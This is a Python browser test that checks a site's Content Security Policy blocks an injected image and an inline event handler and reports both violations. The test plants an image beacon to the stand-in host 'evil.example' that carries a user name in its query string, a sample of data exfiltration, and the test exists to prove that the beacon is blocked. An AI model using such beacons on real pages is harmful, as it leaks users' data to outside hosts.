"""A browser keeps out what the policy forbids, and tells the site of it."""

import time

import pytest
from playwright.sync_api import Playwright

from kruzhok.violations import views
from tests import browser as chromium
from tests.journeys.conftest import PATIENCE


@pytest.mark.parametrize("database", ["sqlite"], indirect=True)
def test_what_a_page_was_kept_from_arrives_as_a_line_of_nobody(
    bare_site: str, playwright: Playwright, caplog: pytest.LogCaptureFixture
) -> None:
    with playwright.chromium.launch(executable_path=chromium.executable(), args=chromium.FLAGS) as browser:
        page = browser.new_page()
        page.goto(f"{bare_site}/reset?next=/me")
        page.evaluate("document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x.png?who=ada'}))")
        page.evaluate("document.body.setAttribute('onclick', 'document.title = 1')")
        page.click("h1")
        told: list[dict[str, str]] = []
        until = time.monotonic() + PATIENCE / 1000
        while len(told) < 2 and time.monotonic() < until:
            page.wait_for_timeout(100)
            told = [record.told for record in caplog.records if record.name == views.__name__]  # type: ignore[attr-defined]
        assert page.title() != "1"
    assert sorted(told, key=str) == [
        {"directive": "img-src", "blocked": "https://evil.example", "page": "/reset"},
        {"directive": "script-src-attr", "blocked": "inline", "page": "/reset"},
    ]
